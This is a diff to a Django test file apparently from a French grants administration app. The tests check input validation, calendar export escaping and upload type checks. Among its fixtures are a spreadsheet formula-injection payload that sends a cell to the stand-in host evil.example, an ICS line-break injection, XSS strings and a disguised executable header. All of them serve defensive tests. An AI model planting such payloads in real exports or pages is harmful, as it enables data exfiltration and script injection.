@@ -5,11 +5,16 @@ import io
 from datetime import date
 
 import pytest
+from django.core.files.storage import default_storage
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from icalendar import Calendar
 
-from apps.network.models import Grant
+from apps.network import services
+from apps.network.models import Grant, Meeting
 
 pytestmark = pytest.mark.django_db
+NOW = "2026-11-05T09:30:00+01:00"
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
 
 
@@ -49,3 +54,95 @@ def test_a_signatory_that_is_not_the_beneficiary_sees_no_grant_in_the_history(
     client.force_login(region_admin)
     html = client.get(reverse("network:convention", args=[signed_41.pk])).content.decode()
     assert "MANDAT-2027-00042" in html
+
+
+# Bad input never 500s (review L1, L6)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/reseau/conventions/?annee=²",
+        "/reseau/subventions/?annee=²",
+        "/reseau/subventions/export.csv?annee=²",
+        "/reseau/subventions/export.csv?annee=99999999999999999999",
+        "/api/v1/network/conventions/?year=²",
+    ],
+)
+def test_a_malformed_year_is_ignored(client, signed_41, region_admin, url):
+    client.force_login(region_admin)
+    assert client.get(url).status_code == 200
+
+
+def _meeting_data(**changes):
+    data = {"title": "Comité", "day": "2027-03-12", "start_time": "09:30", "end_time": "12:00", "place": "Blois"}
+    return data | changes
+
+
+@pytest.mark.parametrize(
+    "day, error",
+    [
+        ("0001-01-01", "Date : la date ne peut pas précéder l&#x27;année 2014."),
+        ("9999-12-31", "Date : la date ne peut pas dépasser l&#x27;année"),
+    ],
+)
+def test_a_meeting_dated_out_of_range_is_refused(client, coordinator_41, signed_41, loir_et_cher, day, error):
+    committee = services.local_committee(loir_et_cher)
+    client.force_login(coordinator_41)
+    response = client.post(reverse("network:meeting_create", args=[committee.pk]), _meeting_data(day=day))
+    assert response.status_code == 200 and error in response.content.decode()
+    assert not Meeting.objects.exists()
+
+
+def test_a_meeting_title_with_a_line_break_still_exports(client, coordinator_41, signed_41, loir_et_cher):
+    committee = services.local_committee(loir_et_cher)
+    meeting = Meeting.objects.create(
+        committee=committee, title="Comité\r\nEND:VCALENDAR", starts_at="2027-03-12T09:30:00+01:00"
+    )
+    client.force_login(coordinator_41)
+    for url in (
+        reverse("network:meeting_ics", args=[meeting.pk]),
+        reverse("network:committee_ics", args=[committee.pk]),
+    ):
+        response = client.get(url)
+        assert response.status_code == 200
+        assert len(Calendar.from_ical(response.content).walk("VEVENT")) == 1
+
+
+PDF = b"%PDF-1.4\n%test\n"
+FAKES = [
+    ("page.html.pdf", b"<html><script>alert(1)</script></html>"),
+    ("X.PDF", b"MZ\x90\x00 not a pdf"),
+    ("photo.png", b"<svg onload=alert(1)>"),
+    ("note.docx", b"%PDF-1.4 a pdf named docx"),
+]
+
+
+@pytest.mark.parametrize("name, content", FAKES)
+def test_an_upload_whose_content_is_not_its_extension_is_refused(
+    client, coordinator_41, signed_41, loir_et_cher, name, content
+):
+    meeting = Meeting.objects.create(committee=services.local_committee(loir_et_cher), title="C", starts_at=NOW)
+    client.force_login(coordinator_41)
+    upload = SimpleUploadedFile(name, content)
+    response = client.post(reverse("network:meeting_report", args=[meeting.pk]), {"minutes_file": upload})
+    assert response.status_code == 200 and "ne correspond pas à son extension" in response.content.decode()
+    meeting.refresh_from_db()
+    assert not meeting.minutes_file
+
+
+def test_a_replaced_document_leaves_the_storage(
+    client, coordinator_41, signed_41, loir_et_cher, django_capture_on_commit_callbacks
+):
+    meeting = Meeting.objects.create(committee=services.local_committee(loir_et_cher), title="C", starts_at=NOW)
+    client.force_login(coordinator_41)
+    url = reverse("network:meeting_report", args=[meeting.pk])
+    with django_capture_on_commit_callbacks(execute=True):
+        assert client.post(url, {"minutes_file": SimpleUploadedFile("cr.pdf", PDF)}).status_code == 302
+        meeting.refresh_from_db()
+        first = meeting.minutes_file.name
+        assert default_storage.exists(first)
+        assert client.post(url, {"minutes_file": SimpleUploadedFile("cr.pdf", PDF + b"v2")}).status_code == 302
+    meeting.refresh_from_db()
+    assert meeting.minutes_file.name != first and default_storage.exists(meeting.minutes_file.name)
+    assert not default_storage.exists(first)
